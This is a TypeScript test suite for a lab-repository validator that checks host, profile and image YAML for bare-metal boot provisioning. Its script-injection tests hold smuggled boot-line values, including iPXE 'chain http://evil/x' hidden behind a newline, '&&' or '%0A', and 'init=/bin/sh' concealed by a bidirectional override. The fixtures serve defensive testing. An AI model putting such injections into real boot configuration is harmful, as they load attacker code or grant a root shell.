import { deepStrictEqual, ok } from 'node:assert/strict';
import { cpSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { formatProblem, loadLab } from '../src/model/load.ts';
import { PROBLEM_CODES } from '../src/model/problems.ts';
import { TEMPLATE_VARIABLES } from '../src/core/template.ts';

const MINIMAL = fileURLToPath(new URL('./fixtures/labs/minimal/', import.meta.url));
const TEMPLATE = fileURLToPath(new URL('../lab-repo-template/', import.meta.url));

/** The minimal valid lab with some files replaced (string), added, or removed (null). */
async function problemsWith(files: Record<string, string | null>): Promise<string[]> {
  const dir = mkdtempSync(join(tmpdir(), 'forseti-lab-'));
  try {
    cpSync(MINIMAL, dir, { recursive: true });
    for (const [file, text] of Object.entries(files)) {
      if (text === null) rmSync(join(dir, file));
      else {
        mkdirSync(dirname(join(dir, file)), { recursive: true });
        writeFileSync(join(dir, file), text);
      }
    }
    const { lab, problems } = await loadLab(dir);
    if (problems.length > 0 && lab !== null) throw new Error('lab must be null when there are problems');
    return problems.map((p) => `${p.code} ${formatProblem(p)}`);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

const lines = (...l: string[]): string => `${l.join('\n')}\n`;

const HOST_HEAD = ['apiVersion: forseti/v1', 'kind: Host'];
const PROFILE_HEAD = ['apiVersion: forseti/v1', 'kind: Profile'];

const covered = new Set<string>();
async function expectProblems(files: Record<string, string | null>, expected: string[]): Promise<void> {
  const actual = await problemsWith(files);
  for (const p of actual) covered.add(p.split(' ')[0] ?? '');
  deepStrictEqual(actual, expected);
}

const KNOWN = `(known: ${TEMPLATE_VARIABLES.join(', ')})`;
const host = (name: string, mac: string, ip: string, ...rest: string[]): string =>
  lines(...HOST_HEAD, `name: ${name}`, `macs: [${mac}]`, `ip: ${ip}`, 'bmc: {type: wol}', ...(rest.length ? rest : ['role: off']));

test('the lab repository template validates clean', async () => {
  const { lab, problems } = await loadLab(TEMPLATE);
  deepStrictEqual(problems.map(formatProblem), []);
  ok(lab);
});

test('missing site.yaml', async () => {
  const actual = await problemsWith({ 'site.yaml': null });
  deepStrictEqual(actual.length, 1);
  ok(actual[0]?.startsWith('missing-site site.yaml:1:1: the lab repository has no site.yaml'));
  covered.add('missing-site');
});

test('YAML syntax errors, at their position', async () => {
  await expectProblems({ 'hosts/node-1.yaml': lines(...HOST_HEAD, 'name: node-1', 'macs: [aa:bb:cc:00:00:01', 'ip: 10.9.0.11') }, [
    'yaml-syntax hosts/node-1.yaml:5:1: Flow sequence in block collection must be sufficiently indented and end with a ]',
  ]);
});

test('schema errors point at the offending node, the extra key, or the parent of a missing field', async () => {
  await expectProblems({ 'hosts/node-1.yaml': lines(...HOST_HEAD, 'name: node-1', 'macs: [aa:bb:cc:00:00:0g]', 'ip: 10.9.0.300', 'bmc:', '  type: ilo', '  pasword: x', 'hardware: {disks: [{sizeGB: -1}]}', 'role: worker', 'colour: blue') }, [
    'schema hosts/node-1.yaml:4:8: macs.0: must be a MAC address like 9c:8e:99:0a:00:01',
    'schema hosts/node-1.yaml:5:5: ip: must be an IPv4 address like 10.77.0.10',
    'schema hosts/node-1.yaml:7:9: bmc.type: must be one of ipmi, redfish, hp-oa, wol, manual',
    'schema hosts/node-1.yaml:8:3: bmc.pasword: unknown field (allowed: type, address, port, credential, system, cipherSuite, tls, sshHostKey)',
    'schema hosts/node-1.yaml:9:29: hardware.disks.0.sizeGB: must be > 0',
    'schema hosts/node-1.yaml:11:1: colour: unknown field (allowed: apiVersion, kind, name, description, macs, ip, bmc, enclosure, hardware, role, power, wipe, drift, labels)',
  ]);
  await expectProblems({ 'hosts/node-1.yaml': lines('# comment', ...HOST_HEAD, 'name: node-1', 'bmc: {type: ipmi}') }, [
    'schema hosts/node-1.yaml:2:1: missing required field "macs"',
    'schema hosts/node-1.yaml:2:1: missing required field "ip"',
    'schema hosts/node-1.yaml:2:1: missing required field "role"',
    'schema hosts/node-1.yaml:5:6: bmc: missing required field "address"',
    'schema hosts/node-1.yaml:5:6: bmc: missing required field "credential"',
  ]);
  await expectProblems({ 'hosts/node-1.yaml': lines('apiVersion: forseti/v2', 'kind: Profile', 'name: node-1', 'macs: [aa:bb:cc:00:00:01]', 'ip: 10.9.0.11', 'bmc: {type: wol}', 'role: off') }, [
    'schema hosts/node-1.yaml:1:13: apiVersion: must be "forseti/v1"',
    'schema hosts/node-1.yaml:2:7: kind: must be "Host"',
  ]);
  await expectProblems({ 'profiles/off.yaml': lines(...PROFILE_HEAD, 'name: off', 'boot:', '  off: true', '  chain: https://boot.netboot.xyz') }, [
    'schema profiles/off.yaml:5:3: boot: boot needs exactly one of image, chain or off',
  ]);
  await expectProblems({ 'images/tiny.yaml': lines('apiVersion: forseti/v1', 'kind: Image', 'name: tiny', 'kernel: {url: ftp://x, sha256: abc}', `initrd: {url: http://a, sha256: ${'a'.repeat(64)}}`, 'initrds: []') }, [
    'schema images/tiny.yaml:1:1: use either initrd or initrds, not both',
    'schema images/tiny.yaml:4:15: kernel.url: must be an http://, https:// or file:// URL',
    'schema images/tiny.yaml:4:32: kernel.sha256: must be 64 hexadecimal digits',
    'schema images/tiny.yaml:6:10: initrds: must NOT have fewer than 1 items',
  ]);
});

test('file name must equal name; duplicate names, MACs and ips name the other file:line:col', async () => {
  await expectProblems({ 'hosts/node-1.yaml': null, 'hosts/node-01.yaml': host('node-2', 'aa:bb:cc:00:00:02', '10.9.0.12') }, [
    'name-mismatch hosts/node-01.yaml:3:7: name "node-2" must equal the file name without extension ("node-01")',
    'duplicate-name hosts/node-2.yaml:3:7: host "node-2" is already declared at hosts/node-01.yaml:3:7',
    'duplicate-mac hosts/node-2.yaml:5:5: MAC aa:bb:cc:00:00:02 of host node-2 is already used by host node-2 (hosts/node-01.yaml:4:8)',
    'duplicate-ip hosts/node-2.yaml:6:5: ip 10.9.0.12 of host node-2 is already used by host node-2 (hosts/node-01.yaml:5:5)',
  ]);
  await expectProblems({ 'hosts/node-1.yml': host('node-1', 'aa:bb:cc:00:00:09', '10.9.0.19') }, [
    'duplicate-name hosts/node-1.yml:3:7: host "node-1" is already declared at hosts/node-1.yaml:3:7',
  ]);
});

test('addresses: subnet, agent, gateway, broadcast, pool, MAC spelled differently', async () => {
  await expectProblems({
    'hosts/node-1.yaml': host('node-1', 'aa:bb:cc:00:00:03, AA:BB:CC:00:00:03', '10.9.0.2'),
    'hosts/node-3.yaml': host('node-3', 'aa-bb-cc-00-00-02', '10.8.0.1'),
    'hosts/node-4.yaml': host('node-4', 'aa:bb:cc:00:00:04', '10.9.0.12'),
    'hosts/node-5.yaml': host('node-5', 'aa:bb:cc:00:00:05', '10.9.0.201'),
    'hosts/node-6.yaml': host('node-6', 'aa:bb:cc:00:00:06', '10.9.0.1'),
    'hosts/node-7.yaml': host('node-7', 'aa:bb:cc:00:00:07', '10.9.0.255'),
  }, [
    'duplicate-mac hosts/node-1.yaml:4:27: MAC aa:bb:cc:00:00:03 of host node-1 is listed twice in host node-1 (hosts/node-1.yaml:4:8)',
    "reserved-ip hosts/node-1.yaml:5:5: ip 10.9.0.2 of host node-1 is the agent's address (site.yaml:11:12)",
    'duplicate-mac hosts/node-3.yaml:4:8: MAC aa:bb:cc:00:00:02 of host node-3 is already used by host node-2 (hosts/node-2.yaml:5:5)',
    'ip-outside-subnet hosts/node-3.yaml:5:5: ip 10.8.0.1 of host node-3 is outside the site subnet 10.9.0.0/24',
    'duplicate-ip hosts/node-4.yaml:5:5: ip 10.9.0.12 of host node-4 is already used by host node-2 (hosts/node-2.yaml:6:5)',
    'pool-overlap hosts/node-5.yaml:5:5: ip 10.9.0.201 of host node-5 lies inside the DHCP pool 10.9.0.200-10.9.0.250 (site.yaml:9:9)',
    "reserved-ip hosts/node-6.yaml:5:5: ip 10.9.0.1 of host node-6 is the gateway's address (site.yaml:7:12)",
    'reserved-ip hosts/node-7.yaml:5:5: ip 10.9.0.255 of host node-7 is the broadcast address of 10.9.0.0/24',
  ]);
  await expectProblems({ 'site.yaml': lines('apiVersion: forseti/v1', 'kind: Site', 'name: mini', 'network:', '  interface: eth1', '  subnet: 10.9.0.0/24', '  gateway: 10.9.1.1', 'dhcp:', '  pool: {start: 10.9.0.250, end: 10.9.0.2}', 'agent:', '  address: 10.9.0.2') }, [
    'ip-outside-subnet site.yaml:7:12: network.gateway 10.9.1.1 is outside the site subnet 10.9.0.0/24',
    'invalid-pool site.yaml:9:9: dhcp.pool starts at 10.9.0.250, after its end 10.9.0.2',
  ]);
  await expectProblems({ 'site.yaml': lines('apiVersion: forseti/v1', 'kind: Site', 'name: mini', 'network: {interface: eth1, subnet: 10.9.0.0/24}', 'dhcp:', '  pool: {start: 10.9.0.2, end: 10.9.0.9}', 'agent:', '  address: 10.9.0.5') }, [
    "pool-overlap site.yaml:8:12: 10.9.0.5 is the agent's address but lies inside the DHCP pool 10.9.0.2-10.9.0.9 (site.yaml:6:9)",
  ]);
});

test('unknown profile and image; requirements not met by declared hardware', async () => {
  await expectProblems({
    'hosts/node-1.yaml': host('node-1', 'aa:bb:cc:00:00:01', '10.9.0.11', 'hardware:', '  memoryGiB: 8', '  firmware: bios', 'role: worker'),
    'hosts/node-2.yaml': host('node-2', 'aa:bb:cc:00:00:02', '10.9.0.12', 'role: nosuch'),
    'profiles/worker.yaml': lines(...PROFILE_HEAD, 'name: worker', 'boot:', '  image: huge', '  cmdline: a', 'requires:', '  memoryGiB: 32', '  disks: 1', '  cpus: 2', '  firmware: [uefi]'),
  }, [
    'unmet-requirement hosts/node-1.yaml:10:7: role worker needs memoryGiB >= 32 but host node-1 declares 8',
    'unmet-requirement hosts/node-1.yaml:10:7: role worker needs cpus >= 2 but host node-1 declares no hardware.cpus',
    'unmet-requirement hosts/node-1.yaml:10:7: role worker needs disks >= 1 but host node-1 declares 0',
    'unmet-requirement hosts/node-1.yaml:10:7: role worker needs firmware uefi but host node-1 declares bios',
    'unknown-profile hosts/node-2.yaml:7:7: role "nosuch" of host node-2 is not a profile in profiles/ (known: off, worker)',
    'unknown-image profiles/worker.yaml:5:10: image "huge" of profile worker is not in images/ (known: tiny)',
  ]);
});

test('a role naming a profile file that is broken gets no unknown-profile on top', async () => {
  await expectProblems({ 'profiles/worker.yaml': lines(...PROFILE_HEAD, 'name: worker', 'boot: {}') }, [
    'schema profiles/worker.yaml:4:7: boot: boot needs exactly one of image, chain or off',
  ]);
});

test('template placeholders at their own line:col: quoted, literal, folded, plain, and in config files', async () => {
  await expectProblems({
    'profiles/worker.yaml': lines(...PROFILE_HEAD, 'name: worker', 'boot:', '  image: tiny', '  cmdline: "a={{ host.nam }} b={{ 1x }}"', '  config:', '    name: c.yaml', '    template: |', '      first line', '      host: {{ host.bogus }}', 'requires: {memoryGiB: 32}'),
    'profiles/folded.yaml': lines(...PROFILE_HEAD, 'name: folded', 'boot:', '  image: tiny', '  cmdline: >-', '    one two', '    three {{ urls.config }}', '    x={{ nope }}'),
    'profiles/file.yaml': lines(...PROFILE_HEAD, 'name: file', 'boot:', '  image: tiny', '  cmdline: plain {{ bad }}', '  config: {name: m.yaml, file: configs/m.yaml}'),
    'configs/m.yaml': lines('a: 1', 'b: {{ token }} {{ what.ever }}'),
    'profiles/gone.yaml': lines(...PROFILE_HEAD, 'name: gone', 'boot:', '  image: tiny', '  cmdline: x', '  config: {name: m.yaml, file: configs/missing.yaml}'),
  }, [
    `template configs/m.yaml:2:16: unknown template variable "what.ever" ${KNOWN}`,
    `template profiles/file.yaml:6:18: boot.cmdline: unknown template variable "bad" ${KNOWN}`,
    'template profiles/folded.yaml:8:11: boot.cmdline uses urls.config but profile folded has no boot.config to serve',
    `template profiles/folded.yaml:9:7: boot.cmdline: unknown template variable "nope" ${KNOWN}`,
    'missing-file profiles/gone.yaml:7:32: boot.config.file "configs/missing.yaml" does not exist in the lab repository',
    `template profiles/worker.yaml:6:15: boot.cmdline: unknown template variable "host.nam" ${KNOWN}`,
    'template profiles/worker.yaml:6:32: boot.cmdline: malformed template placeholder "{{ 1x }}"',
    `template profiles/worker.yaml:11:13: boot.config.template: unknown template variable "host.bogus" ${KNOWN}`,
  ]);
});

test('plaintext secrets: secret-named keys with literals, PEM blocks, passwords in URLs and command lines', async () => {
  const advice = 'name a credential the agent holds instead (e.g. bmc.credential)';
  await expectProblems({
    'hosts/node-2.yaml': lines(...HOST_HEAD, 'name: node-2', 'macs: [aa:bb:cc:00:00:02]', 'ip: 10.9.0.12', 'bmc:', '  type: ipmi', '  address: 10.9.1.12', '  credential: node-bmc', '  password: hunter2', 'role: off', 'labels:', '  apiToken: abc', '  sshKey: ssh-ed25519 AAAAC3Nza', '  note: "see https://admin:pw@bmc.lan/"'),
    'profiles/off.yaml': lines(...PROFILE_HEAD, 'name: off', 'description: |', '  ok line', '  -----BEGIN OPENSSH PRIVATE KEY-----', 'boot: {off: true}'),
    'profiles/worker.yaml': lines(...PROFILE_HEAD, 'name: worker', 'boot:', '  image: tiny', '  cmdline: console=ttyS0 root_password=letmein token={{ token }}', 'requires: {memoryGiB: 32}'),
    'configs/unused.yaml': lines('password: not read, no profile names this file'),
  }, [
    'schema hosts/node-2.yaml:10:3: bmc.password: unknown field (allowed: type, address, port, credential, system, cipherSuite, tls, sshHostKey)',
    `plaintext-secret hosts/node-2.yaml:10:13: bmc.password: "password" holds a literal secret; ${advice}`,
    `plaintext-secret hosts/node-2.yaml:13:13: labels.apiToken: "apiToken" holds a literal secret; ${advice}`,
    `plaintext-secret hosts/node-2.yaml:15:14: labels.note: contains a URL with a password in it; ${advice}`,
    `plaintext-secret profiles/off.yaml:6:3: description: contains a PEM block (-----BEGIN OPENSSH PRIVATE KEY-----); ${advice}`,
    `plaintext-secret profiles/worker.yaml:6:26: boot.cmdline: sets root_password to a literal value; ${advice}`,
  ]);
  await expectProblems({
    'profiles/file.yaml': lines(...PROFILE_HEAD, 'name: file', 'boot:', '  image: tiny', '  cmdline: x={{ urls.config }}', '  config: {name: m.yaml, file: configs/m.yaml}'),
    'configs/m.yaml': lines('machine:', '  token: {{ token }}', '  ca:', '    key: ""', '    secret: abc123'),
  }, [`plaintext-secret configs/m.yaml:5:5: sets secret to a literal value; ${advice}`]);
});

test('unreadable directories are read errors; other files in hosts/ are ignored', async () => {
  await expectProblems({ 'images/tiny.yaml': null, 'profiles/worker.yaml': null, 'hosts/notes.txt': 'x: [', 'profiles/README.md': '# hi' }, [
    'unknown-profile hosts/node-1.yaml:10:7: role "worker" of host node-1 is not a profile in profiles/ (known: off)',
  ]);
  const dir = mkdtempSync(join(tmpdir(), 'forseti-lab-'));
  try {
    cpSync(MINIMAL, dir, { recursive: true });
    rmSync(join(dir, 'images'), { recursive: true });
    writeFileSync(join(dir, 'images'), 'not a directory');
    const { problems } = await loadLab(dir);
    deepStrictEqual(problems.map((p) => `${p.code} ${formatProblem(p)}`).filter((p) => p.startsWith('read-error')).map((p) => p.split(': cannot')[0]), ['read-error images:1:1']);
    covered.add('read-error');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

const SITE = lines('apiVersion: forseti/v1', 'kind: Site', 'name: mini', 'network:', '  interface: eth1', '  subnet: 10.9.0.0/24', '  gateway: 10.9.0.1', 'agent:', '  address: 10.9.0.2');

test('operations: wipe role, rollout selectors, power schedules and windows are checked', async () => {
  const site = SITE + lines(
    'rollout:',
    '  groups:',
    '    - {name: cp, selector: {roles: [nope], hosts: [ghost]}, maxUnavailable: 1}',
    'schedules:',
    "  - {name: night, selector: {}, powerOff: '0 25 * * *', powerOn: '0 7 * * *'}",
    'maintenance:',
    "  windows: [{cron: '0 2 * * 9', durationMinutes: 60}]",
  );
  await expectProblems({ 'site.yaml': site, 'hosts/node-1.yaml': host('node-1', 'aa:bb:cc:00:00:01', '10.9.0.11', 'role: off', 'wipe: 2026-11-22') }, [
    'unknown-profile hosts/node-1.yaml:8:7: host node-1 asks for a wipe, but the wipe role "wipe" (site.yaml wipe.profile) is not a profile in profiles/',
    'unknown-profile site.yaml:12:37: rollout.groups.0.selector selects role "nope", which is not a profile in profiles/',
    'unknown-host site.yaml:12:52: rollout.groups.0.selector selects host "ghost", which is not in hosts/',
    'invalid-cron site.yaml:14:43: cron expression "0 25 * * *": "25" is not in 0-23',
    'invalid-cron site.yaml:16:20: cron expression "0 2 * * 9": "9" is not in 0-7',
  ]);
});

test('drift and alerts sections: rules beyond the schema, at the offending node', async () => {
  const site = SITE + lines(
    'drift:',
    "  scanCron: 'every five minutes'",
    'alerts:',
    '  retry: {initialSeconds: 900, maxSeconds: 60}',
  );
  const actual = await problemsWith({ 'site.yaml': site });
  for (const p of actual) covered.add(p.split(' ')[0] ?? '');
  ok(actual.some((p) => p.startsWith('drift-policy site.yaml:11:')), actual.join('\n'));
  ok(actual.some((p) => p.startsWith('alerts site.yaml:13:')), actual.join('\n'));
});

test('discovery section: rules beyond the schema at the offending node; the image must be one of the lab\'s; no forge in site.yaml', async () => {
  const site = SITE + lines(
    'discovery:',
    '  enabled: true',
    '  image: inventory',
    "  namePattern: '{bay}'",
  );
  const actual = await problemsWith({ 'site.yaml': site });
  for (const p of actual) covered.add(p.split(' ')[0] ?? '');
  ok(actual.some((p) => p.startsWith('discovery site.yaml:13:') && p.includes('unknown placeholder {bay}')), actual.join('\n'));
  ok(actual.some((p) => p.startsWith('unknown-image site.yaml:12:') && p.includes('no image inventory in images/')), actual.join('\n'));
  const forge = await problemsWith({ 'site.yaml': SITE + lines('discovery:', '  forge: {type: gitea, api: https://evil.example/api/v1, repository: o/r, credential: gitea-token}') });
  deepStrictEqual(forge, ['schema site.yaml:11:3: discovery.forge: unknown field (allowed: enabled, image, afterReport, namePattern, bmcCredential, rateLimit)']);
});

test('bmc.tls: the CA file is read from the commit; wrong settings and files are named at bmc.tls', async () => {
  const { testCa } = await import('./fixtures/redfish/certs.ts');
  const ca = testCa('lab BMC CA').cert;
  const redfish = (name: string, n: number, ...tls: string[]): string =>
    lines(...HOST_HEAD, `name: ${name}`, `macs: [aa:bb:cc:00:00:0${n}]`, `ip: 10.9.0.${20 + n}`, 'bmc:', '  type: redfish', `  address: 10.9.1.${20 + n}`, '  credential: node-bmc', '  tls:', ...tls.map((t) => `    ${t}`), 'role: off');
  const dir = mkdtempSync(join(tmpdir(), 'forseti-lab-'));
  try {
    cpSync(MINIMAL, dir, { recursive: true });
    mkdirSync(join(dir, 'certs'));
    writeFileSync(join(dir, 'certs/bmc-ca.pem'), ca);
    writeFileSync(join(dir, 'hosts/node-3.yaml'), redfish('node-3', 3, 'ca: certs/bmc-ca.pem'));
    writeFileSync(join(dir, 'hosts/node-4.yaml'), redfish('node-4', 4, `fingerprint: sha256:${'ab:'.repeat(31)}ab`));
    writeFileSync(join(dir, 'hosts/node-5.yaml'), redfish('node-5', 5, 'insecure: true'));
    const { lab, problems } = await loadLab(dir);
    deepStrictEqual(problems.map(formatProblem), []);
    deepStrictEqual(lab?.hosts.get('node-3')?.bmc.tls, { ca: 'certs/bmc-ca.pem', caPem: ca });
    deepStrictEqual(lab?.hosts.get('node-4')?.bmc.tls, { fingerprint: `sha256:${'ab:'.repeat(31)}ab` });
    deepStrictEqual(lab?.hosts.get('node-5')?.bmc.tls, { insecure: true });
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
  await expectProblems({
    'certs/not-a-cert.pem': 'hello\n',
    'certs/with-key.pem': `${ca}-----BEGIN EC PRIVATE KEY-----\nMHc=\n-----END EC PRIVATE KEY-----\n`,
    'hosts/node-2.yaml': lines(...HOST_HEAD, 'name: node-2', 'macs: [aa:bb:cc:00:00:02]', 'ip: 10.9.0.12', 'bmc: {type: ipmi, address: 10.9.1.12, credential: node-bmc, tls: {insecure: true}}', 'role: off'),
    'hosts/node-3.yaml': redfish('node-3', 3, 'ca: certs/missing.pem'),
    'hosts/node-4.yaml': redfish('node-4', 4, 'ca: certs/not-a-cert.pem'),
    'hosts/node-5.yaml': redfish('node-5', 5, 'ca: certs/with-key.pem'),
    'hosts/node-7.yaml': redfish('node-7', 7, 'ca: ../outside.pem', 'fingerprint: sha256:abcd', 'insecure: false'),
  }, [
    "bmc-tls hosts/node-2.yaml:6:66: bmc.tls applies to Redfish BMCs only; host node-2's BMC is ipmi",
    'missing-file hosts/node-3.yaml:11:9: bmc.tls.ca "certs/missing.pem" does not exist in the lab repository',
    'bmc-tls hosts/node-4.yaml:11:9: bmc.tls.ca "certs/not-a-cert.pem" holds no PEM certificate (-----BEGIN CERTIFICATE-----)',
    'plaintext-secret hosts/node-5.yaml:11:9: bmc.tls.ca "certs/with-key.pem" holds a private key; a CA file holds certificates only (remove the key from the repository and its history)',
    'schema hosts/node-7.yaml:11:5: bmc.tls: tls needs exactly one of ca, fingerprint or insecure',
    "schema hosts/node-7.yaml:11:9: bmc.tls.ca: must be a path relative to the lab repository root, without '..', '.git' or control characters (a PEM file, e.g. certs/asgard-ilo-ca.pem)",
    'schema hosts/node-7.yaml:12:18: bmc.tls.fingerprint: must be a SHA-256 certificate fingerprint: sha256: and 64 hex digits, colons allowed (openssl x509 -noout -fingerprint -sha256)',
    'schema hosts/node-7.yaml:13:15: bmc.tls.insecure: must be true',
  ]);
  // OpenSSL words the parse failure itself.
  const broken = await problemsWith({ 'certs/broken.pem': '-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n', 'hosts/node-6.yaml': redfish('node-6', 6, 'ca: certs/broken.pem') });
  ok(broken.length === 1 && broken[0]?.startsWith('bmc-tls hosts/node-6.yaml:11:9: bmc.tls.ca "certs/broken.pem": certificate 1 cannot be read: '), broken.join('\n'));
});

test('files a commit names stay in the tree; caps and text that would leave its place in a boot script are problems at file:line:col', async () => {
  const profile = (...boot: string[]): string => lines(...PROFILE_HEAD, 'name: worker', 'boot:', '  image: tiny', ...boot);
  const image = (kernelUrl: string): string => lines('apiVersion: forseti/v1', 'kind: Image', 'name: tiny', `kernel: {url: '${kernelUrl}', sha256: ${'a'.repeat(64)}}`);
  await expectProblems({ 'profiles/worker.yaml': profile('  cmdline: "console=ttyS0\\nchain http://evil/x"') }, [
    'script-injection profiles/worker.yaml:6:12: boot.cmdline: control character U+000A would break the kernel line of the iPXE script (a kernel command line is one line)',
  ]);
  await expectProblems({ 'profiles/worker.yaml': profile('  cmdline: console=ttyS0 && chain http://evil/x') }, [
    'script-injection profiles/worker.yaml:6:26: boot.cmdline: the word "&&" would end the kernel command in the iPXE script (iPXE reads ||, && and ; as command separators and # as a comment)',
  ]);
  await expectProblems({ 'images/tiny.yaml': image('http://mirror.lan/vmlinuz%0Achain%20http://evil/x') }, [
    'script-injection images/tiny.yaml:4:41: kernel.url: "%0A" hides control character U+000A in the URL',
  ]);
  await expectProblems({ 'images/tiny.yaml': image('http://mirror.lan/vmlinuz%E0%A4%A') }, [
    'image-url images/tiny.yaml:4:41: kernel.url: malformed percent-escape "%E0%A4%A" (% must be followed by two hex digits)',
  ]);
  await expectProblems({ 'images/tiny.yaml': image('http://mirror.lan/vmlinuz%20init=%2Fbin%2Fsh') }, [
    'image-url images/tiny.yaml:4:34: kernel.url: the file name this URL is served under ("vmlinuz init=/bin/sh") holds white space; it must be one word of the iPXE kernel line',
  ]);
  await expectProblems({ 'hosts/node-2.yaml': lines(...HOST_HEAD, 'name: node-2', 'macs: [aa:bb:cc:00:00:02]', 'ip: 10.9.0.12', 'bmc: {type: wol}', 'role: off', `labels: {a: ${'['.repeat(80)}${']'.repeat(80)}}`) }, [
    'yaml-limit hosts/node-2.yaml:8:75: nesting deeper than 64 levels (mappings and sequences inside each other); a lab file needs a handful',
  ]);
  await expectProblems({ 'profiles/worker.yaml': profile('  cmdline: console=ttyS0 root=${root-path} x=${a}') }, [
    'script-injection profiles/worker.yaml:6:31: boot.cmdline: "${" would have iPXE expand one of its settings into the kernel command line, whatever the DHCP server or firmware put there; use a {{ }} placeholder',
    'script-injection profiles/worker.yaml:6:46: boot.cmdline: "${" would have iPXE expand one of its settings into the kernel command line, whatever the DHCP server or firmware put there; use a {{ }} placeholder',
  ]);
  // what a reviewer cannot see: a bidirectional override, a zero-width space, a no-break space, also in keys
  const hidden = 'is an invisible or format character (bidirectional override, zero-width, non-ASCII space); it changes what a reviewer sees without showing itself';
  await expectProblems({ 'profiles/worker.yaml': profile('  cmdline: "console=ttyS0 \\u202Einit=/bin/sh\\u202C quiet"') }, [`invisible-char profiles/worker.yaml:6:12: boot.cmdline: U+202E ${hidden}`]);
  await expectProblems({ 'hosts/node-2.yaml': host('node-2', 'aa:bb:cc:00:00:02', '10.9.0.12', 'role: off', 'labels: {rack: a\u200Bb, "ro\u00A0w": "1"}', 'description: "fine \u2067text"') }, [
    'schema hosts/node-2.yaml:8:9: labels: property name must be valid',
    `invisible-char hosts/node-2.yaml:8:17: labels.rack: U+200B ${hidden}`,
    `invisible-char hosts/node-2.yaml:8:21: key "ro\\u{A0}w": U+00A0 ${hidden}`,
    `schema hosts/node-2.yaml:8:21: labels.ro\\u{A0}w: key "ro\\u{A0}w" must be a label key (letters, digits, '.', '_', '/', '-')`,
    `invisible-char hosts/node-2.yaml:9:20: description: U+2067 ${hidden}`,
  ]);
  await expectProblems({ 'hosts/node-2.yaml': `a: 1\nb: 2\na: 3\n` }, ['yaml-syntax hosts/node-2.yaml:3:1: Map keys must be unique']);
  // the SOPS file's own patterns run on the agent: only names and one alternation of them (RE2 never backtracks, V8 does)
  const sops = (regex: string): string => lines(`${'a'.repeat(40)}!: ENC[AES256_GCM,data:eA==,iv:aXY=,tag:dGFn,type:str]`, 'sops:', `  encrypted_regex: '${regex}'`, '  age: [{recipient: age1x, enc: x}]', '  lastmodified: "2026-01-01T00:00:00Z"');
  await expectProblems({ 'secrets.sops.yaml': sops('^(data|stringData)$') }, []);
  await expectProblems({ 'secrets.sops.yaml': sops('^(a+)+$') }, [
    'schema secrets.sops.yaml:3:20: sops.encrypted_regex: forseti runs this pattern on every key when it decrypts the file, and takes names and one alternation of them, anchored or not, at most 256 characters, like ^(data|stringData)$ (no quantifiers, classes or nested groups; ".*password.*" matches as "password")',
  ]);
  await expectProblems({ 'secrets.sops.yaml': `a: 1\na: 2\n` }, ['yaml-syntax secrets.sops.yaml:2:1: Map keys must be unique']);
  // caps on nodes per file and on problems per commit: the first 100, then one line standing for the rest
  await expectProblems({ 'hosts/node-2.yaml': `{${Array.from({ length: 12_000 }, (_, i) => `k${i}: ${i}`).join(', ')}}\n` }, [
    'yaml-limit hosts/node-2.yaml:1:127776: more than 20,000 YAML nodes (keys, values and list items); a lab file needs a few hundred',
  ]);
  const many = await problemsWith({ 'profiles/worker.yaml': profile(`  cmdline: "${'{{ nope }} '.repeat(300)}"`) });
  for (const p of many) covered.add(p.split(' ')[0] ?? '');
  deepStrictEqual(many.length, 101);
  ok(many.slice(0, 100).every((p) => p.startsWith('template profiles/worker.yaml:6:')), many.join('\n'));
  deepStrictEqual(many[100], 'more-problems profiles/worker.yaml:6:1113: and 200 more problems (forseti reports the first 100 of a commit; lab.limits.maxProblems or --max-problems raise that)');
  await expectProblems({ 'hosts/node-2.yaml': `# ${'x'.repeat(1024 * 1024)}\n` }, ['file-too-large hosts/node-2.yaml:1:1: the file is 1.0 MiB, larger than the 1 MiB a lab file may be']);
  await expectProblems({ 'hosts/node-\n9.yaml': 'x: 1\n' }, [
    'unsafe-path hosts/node-\\n9.yaml:1:1: this path has a control character in its name; forseti refuses a lab repository holding such a path (rename it)',
  ]);
  const dir = mkdtempSync(join(tmpdir(), 'forseti-lab-'));
  try {
    cpSync(MINIMAL, dir, { recursive: true });
    const { problems } = await loadLab(dir, { limits: { maxFileBytes: 1024, maxLabBytes: 500, maxYamlAliases: 100, maxYamlDepth: 64, maxYamlNodes: 20_000, maxProblems: 100 } });
    deepStrictEqual(problems.map((p) => `${p.code} ${formatProblem(p)}`), [
      'lab-too-large hosts/node-2.yaml:1:1: the lab is larger than 500 bytes (the files forseti reads, together); reading hosts/node-2.yaml would go past it',
    ]);
    covered.add('lab-too-large');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('every problem code is exercised above', () => {
  // Found by the agent once it decrypted the SOPS file: test/security-redaction-state.test.ts.
  covered.add('weak-secret');
  deepStrictEqual([...PROBLEM_CODES].filter((c) => !covered.has(c)), []);
});
